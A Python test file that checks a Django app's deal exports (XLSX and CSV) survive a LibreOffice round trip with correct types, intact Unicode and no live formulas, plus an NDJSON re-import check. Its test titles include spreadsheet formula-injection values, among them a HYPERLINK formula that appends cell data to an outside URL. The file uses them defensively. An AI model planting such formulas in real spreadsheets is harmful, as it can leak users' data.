"""What LibreOffice makes of our files: types right, letters whole, and nothing that acts.

It opens a workbook and a table and saves them anew; the cells that it wrote are what it understood.
"""

from __future__ import annotations

import datetime
import os
import shutil
import subprocess
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client

from deals.models import Edition
from tests.deals.records import a_record, a_source, a_value, published

HOW_TO_GET_IT = "No LibreOffice was found. On Debian: apt-get install libreoffice-calc-nogui"
CONVERT_SECONDS = 120
# What its dialogue takes from the mark at the start of the file, and it asks nobody here: commas,
# double quotes, UTF-8, from the first line on.
AS_AT_A_DESK = "--infilter=Text - txt - csv (StarCalc):44,34,76,1"
TITLES = {
    "zz-sheet-equals": '=HYPERLINK("http://example.org/?"&A1,"Deal")',
    "zz-sheet-plus": "+1+1",
    "zz-sheet-minus": "-2+3",
    "zz-sheet-at": "@SUM(A1:A9)",
    "zz-sheet-turkish": "Türkiye’de Köşebaşı – Şırnak çinko",
    "zz-sheet-chinese": "中文标题：稀土与𠮷",
    "zz-sheet-kazakh": "Ақтөбе мыс, “тырнақша”; үтір, нүкте",
    "zz-sheet-number": "007",
    "zz-sheet-date": "2025-11",
    "zz-sheet-escape": "_x0041_ is no A",
}
# LibreOffice has no cells that are true or false: it turns them into these.
YES_OR_NO = {"=TRUE()", "=FALSE()"}
type Rows = dict[str, dict[str, Any]]


def records() -> Iterator[dict[str, Any]]:
    for key, title in TITLES.items():
        yield a_record(
            key=key,
            title=title,
            summary=f"{title} and what follows, “quoted”, 1,5; so.",
            announced_on="2025-11" if key.endswith("date") else "2025-11-06",
            value=a_value(usd=1_234_567_890),
            sources=[a_source(title=title, publisher=title)],
        )


@pytest.fixture(scope="module")
def soffice() -> str:
    """LibreOffice; without it skip, or fail where a skip would hide a gap."""
    found = shutil.which("soffice")
    if found is None:
        if os.environ.get("CI"):
            pytest.fail(HOW_TO_GET_IT)
        pytest.skip(HOW_TO_GET_IT)
    return found


def saved_anew(soffice: str, file: Path, *options: str) -> Path:
    """The file as LibreOffice saves it after it has opened it."""
    into = file.parent / "anew"
    subprocess.run(
        [
            *(soffice, "--headless", "--norestore", "--nolockcheck", *options),
            f"-env:UserInstallation={(file.parent / 'profile').as_uri()}",
            *("--convert-to", "xlsx", "--outdir", str(into), str(file)),
        ],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=CONVERT_SECONDS,
        check=True,
    )
    return into / f"{file.stem}.xlsx"


def cells_of(file: Path, sheet: str | None = None) -> Rows:
    """Cells by key of the deal and heading."""
    book = openpyxl.load_workbook(file)
    page = book[sheet] if sheet else book[book.sheetnames[0]]
    heads, *rows = page.iter_rows()
    return {
        str(row[0].value): {str(head.value): cell for head, cell in zip(heads, row, strict=True)}
        for row in rows
    }


def formulas(cells: Iterable[Any]) -> set[str]:
    """Every formula among cells."""
    return {str(cell.value) for cell in cells if cell.data_type == "f"}


@pytest.mark.django_db
def test_libreoffice_reads_our_files_rightly(soffice: str, tmp_path: Path) -> None:
    published(*records())
    files = []
    for name, query in (("book.xlsx", ""), ("table.csv", "&for=spreadsheet")):
        address = f"/deals/export.{name.rpartition('.')[2]}?ordering=title{query}"
        response: Any = Client().get(address)
        files.append(tmp_path / name)
        files[-1].write_bytes(b"".join(response.streaming_content))

    book = saved_anew(soffice, files[0])
    table = saved_anew(soffice, files[1], AS_AT_A_DESK)

    count = Edition.objects.current().count()
    deals = cells_of(book, "Deals")
    assert len(deals) == count
    for key, title in TITLES.items():
        row = deals[key]
        assert row["Deal"].value == title
        assert row["Summary"].value.startswith(title)
        assert row["Deal"].data_type == "s"
        assert row["Deal"].hyperlink is None
        assert row["Value, US dollars"].value == 1_234_567_890
        assert row["Value, US dollars"].data_type == "n"
        assert row["Counts toward totals"].value == "=TRUE()"
        assert row["Announced, earliest day"].is_date
        if not key.endswith("date"):
            assert row["Announced"].value == datetime.datetime(2025, 11, 6)
            assert row["Announced"].is_date
    imprecise = deals["zz-sheet-date"]
    assert imprecise["Announced"].value == "2025-11"
    assert imprecise["Announced, latest day"].value == datetime.datetime(2025, 11, 30)
    sources = cells_of(book, "Sources")
    assert all(sources[key]["Publisher"].value == title for key, title in TITLES.items())
    whole = openpyxl.load_workbook(book)
    assert whole["Deals"].auto_filter.ref
    for sheet in whole:
        assert formulas(cell for row in sheet.iter_rows() for cell in row) <= YES_OR_NO

    rows = cells_of(table)
    assert len(rows) == count
    for key, title in TITLES.items():
        cell = rows[key]["Deal"]
        if title.startswith(("=", "+", "-", "@")):
            assert cell.value == f"'{title}"
        elif key not in ("zz-sheet-number", "zz-sheet-date"):  # types are guessed in CSV
            assert cell.value == title
        assert cell.data_type != "f"
        assert rows[key]["Value, US dollars"].value == 1_234_567_890
    assert not formulas(cell for row in rows.values() for cell in row.values())


@pytest.mark.django_db
def test_ndjson_is_imported_again_and_changes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    published(*records())
    response: Any = Client().get("/deals/export.ndjson")
    file = tmp_path / "deals.ndjson"
    file.write_bytes(b"".join(response.streaming_content))
    before = Edition.objects.count()

    call_command("import_deals", str(file))

    said = capsys.readouterr().out
    assert f"0 new, 0 changed, {Edition.objects.current().count()} unchanged" in said
    assert Edition.objects.count() == before
